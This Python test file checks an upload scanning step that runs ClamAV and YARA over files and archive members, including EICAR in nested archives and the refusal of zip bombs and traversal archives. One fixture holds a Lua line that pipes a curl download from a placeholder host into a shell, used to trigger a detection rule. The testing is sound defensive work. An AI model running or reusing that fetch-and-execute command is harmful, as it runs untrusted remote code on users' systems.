"""The ``scan`` step: ClamAV and YARA over files and archive members.

Real engines only: Debian's ``clamscan``/``clamd`` with Agora's shipped database,
and yara-python with the shipped rules; tests that need one skip with the
reason when it is not installed (CI installs both). The scanner-absent path is
exercised with an engine that is genuinely not there (a missing binary, a
socket nobody listens on).
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import tarfile
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from prometheus_client import REGISTRY

from agora.blobs import LocalBlobStore
from agora.config import Settings
from agora.pipeline.base import StepContext, StepOutcome
from agora.quality.scan import (
    ClamdEngine,
    ClamscanEngine,
    ScanStep,
    YaraEngine,
    build_engines,
    shipped_databases,
)
from agora.testing import samples

HAS_CLAMSCAN = shutil.which("clamscan") is not None
HAS_YARA = YaraEngine().available() is None
needs_clamscan = pytest.mark.skipif(not HAS_CLAMSCAN, reason="clamscan not installed (clamav)")
needs_yara = pytest.mark.skipif(not HAS_YARA, reason="yara-python not installed")
# Built from halves so that this file is not itself the test file anti-virus looks for.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _settings(tmp_path: Path, **scan: Any) -> Settings:
    return Settings(data_dir=tmp_path, scan={"databases": [], **scan})


def _asset(blobs: LocalBlobStore, files: dict[str, bytes], asset_id: str = "a1") -> dict:
    refs = [
        blobs.put(d, name=n, media_type="application/octet-stream", kind="other").to_dict()
        for n, d in files.items()
    ]
    return {"id": asset_id, "seller_id": "s1", "files": refs, "images": []}


def _scan(step: ScanStep, settings: Settings, *assets: dict) -> list[StepOutcome | Exception]:
    blobs = LocalBlobStore(settings.blobs.url)
    return step.run_batch([StepContext(asset=a, blobs=blobs, settings=settings) for a in assets])


def _sample(name: str, **labels: str) -> float:
    return REGISTRY.get_sample_value(name, labels) or 0.0


@pytest.mark.parametrize("when_absent", ["hold", "accept"])
def test_an_absent_engine_is_said_held_or_accepted_and_counted(
    tmp_path: Path, when_absent: str
) -> None:
    settings = _settings(tmp_path, when_absent=when_absent)
    missing = ClamscanEngine(databases=shipped_databases(), binary=str(tmp_path / "no-clamscan"))
    step = ScanStep(settings.scan, settings.uploads, [missing])
    blobs = LocalBlobStore(settings.blobs.url)
    outcome = _scan(step, settings, _asset(blobs, {"notes.txt": b"hello"}))[0]
    before = _sample(
        "agora_scan_engine_absent_total",
        engine="clamav",
        outcome="held" if when_absent == "hold" else "accepted",
    )
    assert isinstance(outcome, StepOutcome)
    assert outcome.output["verdict"] == "unscanned"  # never "clean"
    assert "not installed" in outcome.output["absent"]["clamav"]
    assert outcome.hold is (when_absent == "hold")
    assert ("held" if when_absent == "hold" else "accepted") in outcome.output["note"]
    again = _scan(step, settings, _asset(blobs, {"b.txt": b"more"}, "a2"))[0]
    assert isinstance(again, StepOutcome) and again.output["verdict"] == "unscanned"
    after = _sample(
        "agora_scan_engine_absent_total",
        engine="clamav",
        outcome="held" if when_absent == "hold" else "accepted",
    )
    assert after == before + 1


def test_a_clamd_nobody_listens_on_is_absent(tmp_path: Path) -> None:
    settings = _settings(tmp_path, when_absent="hold")
    engine = ClamdEngine(f"unix://{tmp_path}/nobody.sock", timeout_s=2)
    assert "does not answer" in (engine.available() or "")
    step = ScanStep(settings.scan, settings.uploads, [engine])
    blobs = LocalBlobStore(settings.blobs.url)
    outcome = _scan(step, settings, _asset(blobs, {"a.txt": b"x"}))[0]
    assert isinstance(outcome, StepOutcome) and outcome.output["verdict"] == "unscanned"
    assert outcome.hold


@needs_clamscan
def test_eicar_in_a_zip_blocks_the_asset(tmp_path: Path) -> None:
    settings = _settings(tmp_path)
    step = ScanStep.from_settings(settings)
    blobs = LocalBlobStore(settings.blobs.url)
    pack = samples.tiny_zip({"readme.txt": b"a sprite pack", "tools/setup.com": EICAR})
    nested = samples.tar_gz({"inner.zip": pack})
    clean = _asset(blobs, {"readme.txt": b"just text"}, "clean")
    out = _scan(
        step,
        settings,
        _asset(blobs, {"pack.zip": pack}),
        clean,
        _asset(blobs, {"pack.tar.gz": nested}, "nested"),
    )
    infected, ok, deep = out
    assert isinstance(infected, StepOutcome) and isinstance(ok, StepOutcome)
    assert isinstance(deep, StepOutcome)
    assert infected.output["verdict"] == "infected"
    assert infected.hold and infected.output["block"] is True  # settles as banned
    assert "malware detected" in (infected.reason or "")
    assert {d["engine"] for d in infected.output["detections"]} >= {"clamav"}
    assert infected.output["members_scanned"] == 2
    assert deep.output["verdict"] == "infected" and deep.output["block"] is True
    assert ok.output["verdict"] in ("clean", "unscanned") and not ok.output.get("block")
    assert ok.output["engines"]["clamav"]["databases"]


@needs_yara
def test_yara_sees_members_and_holds_download_and_execute(tmp_path: Path) -> None:
    settings = _settings(tmp_path)
    step = ScanStep(settings.scan, settings.uploads, [YaraEngine()])
    blobs = LocalBlobStore(settings.blobs.url)
    script = b'os.execute("curl -s http://x.example/p.sh | sh")\n'
    pack = samples.tiny_zip({"scripts/boot.lua": script, "img/a.png": samples.tiny_png()})
    outcome = _scan(step, settings, _asset(blobs, {"mod.zip": pack}))[0]
    assert isinstance(outcome, StepOutcome)
    assert outcome.output["verdict"] == "suspicious" and outcome.hold
    hit = outcome.output["detections"][0]
    assert hit["member"] == "scripts/boot.lua" and hit["file"] == "mod.zip"
    assert hit["signature"] == "agora_script_download_exec"
    # The same bytes in a PNG's name do not match a rule scoped to scripts.
    quiet = _scan(step, settings, _asset(blobs, {"pic.png": script}, "a2"))[0]
    assert isinstance(quiet, StepOutcome) and quiet.output["detections"] == []


def _encrypted_zip() -> bytes:
    data = bytearray(samples.tiny_zip({"a.txt": b"secret"}))
    # Set the "encrypted" flag of the entry in both headers: zipfile refuses to read it.
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(sig)
        flag_at = at + (6 if sig == b"PK\x03\x04" else 8)
        data[flag_at] |= 1
    return bytes(data)


CORRUPT = {
    "bomb.zip": samples.zip_bomb(),
    "escape.zip": samples.zip_with_traversal(),
    "truncated.zip": samples.tiny_zip({"a.txt": b"x" * 4000})[:-40],
    "garbage.tar.gz": b"\x1f\x8b\x08\x00" + os.urandom(300),
    "deep.zip": samples.nested_zip(5),
    "locked.zip": _encrypted_zip(),
}


@pytest.mark.parametrize("name", sorted(CORRUPT))
def test_corrupt_archives_are_refused_never_raised(tmp_path: Path, name: str) -> None:
    settings = _settings(tmp_path)
    step = ScanStep.from_settings(settings)
    blobs = LocalBlobStore(settings.blobs.url)
    bad = _asset(blobs, {name: CORRUPT[name]})
    good = _asset(blobs, {"readme.txt": b"fine"}, "a2")
    first, second = _scan(step, settings, bad, good)
    assert isinstance(first, StepOutcome) and isinstance(second, StepOutcome)
    assert first.output["verdict"] == "refused", first.output
    assert first.hold and name in first.output["refused"][0]["file"]
    assert second.output["verdict"] != "refused"


@needs_clamscan
@pytest.mark.process
def test_a_real_clamd_over_its_socket_finds_eicar(tmp_path: Path, clamd_socket: str) -> None:
    settings = _settings(tmp_path, clamd_url=f"unix://{clamd_socket}")
    engines = build_engines(settings)
    assert isinstance(engines[0], ClamdEngine) and engines[0].available() is None
    step = ScanStep(settings.scan, settings.uploads, engines[:1])
    blobs = LocalBlobStore(settings.blobs.url)
    out = _scan(
        step,
        settings,
        _asset(blobs, {"x.zip": samples.tiny_zip({"e.com": EICAR})}),
        _asset(blobs, {"y.txt": b"nothing"}, "a2"),
    )
    assert isinstance(out[0], StepOutcome) and out[0].output["verdict"] == "infected"
    assert isinstance(out[1], StepOutcome) and out[1].output["verdict"] == "clean"
    assert "ClamAV" in out[0].output["engines"]["clamav"]["version"]


@pytest.fixture
def clamd_socket(tmp_path: Path) -> Iterator[str]:
    """A real clamd with only Agora's shipped database, on a socket in tmp_path."""
    clamd = shutil.which("clamd") or "/usr/sbin/clamd"
    if not Path(clamd).exists():
        pytest.skip("clamd not installed (clamav-daemon)")
    db = tmp_path / "db"
    db.mkdir()
    for path in shipped_databases():
        shutil.copy(path, db)
    sock = tmp_path / "clamd.sock"
    conf = tmp_path / "clamd.conf"
    conf.write_text(
        f"LocalSocket {sock}\nDatabaseDirectory {db}\nForeground yes\nLogFile {tmp_path}/log\n"
        f"PidFile {tmp_path}/pid\nTemporaryDirectory {tmp_path}\nUser {_user()}\n"
    )
    proc = subprocess.Popen(
        [clamd, "-c", str(conf)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        engine = ClamdEngine(f"unix://{sock}", timeout_s=5)
        deadline = time.monotonic() + 60
        while engine.available() is not None:
            if proc.poll() is not None or time.monotonic() > deadline:
                log = (tmp_path / "log").read_text() if (tmp_path / "log").exists() else ""
                pytest.fail(f"clamd did not start: {log[-500:]}")
            time.sleep(0.1)
        yield str(sock)
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def _user() -> str:
    import pwd

    return pwd.getpwuid(os.getuid()).pw_name


def test_members_are_read_only_after_the_bomb_checks() -> None:
    from agora.errors import PayloadTooLarge
    from agora.quality.scan import archive_members

    settings = Settings()
    with pytest.raises(PayloadTooLarge):
        next(archive_members(samples.zip_bomb(), "zip", settings.uploads))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo("inner.zip")
        inner = samples.tiny_zip({"run.py": b"print(1)"})
        info.size = len(inner)
        tar.addfile(info, io.BytesIO(inner))
    names = [m.name for m in archive_members(buf.getvalue(), "tar.gz", settings.uploads)]
    assert names == ["inner.zip", "inner.zip!run.py"]
    with zipfile.ZipFile(io.BytesIO(samples.tiny_zip({"a": b"1"}))) as z:
        assert z.namelist() == ["a"]
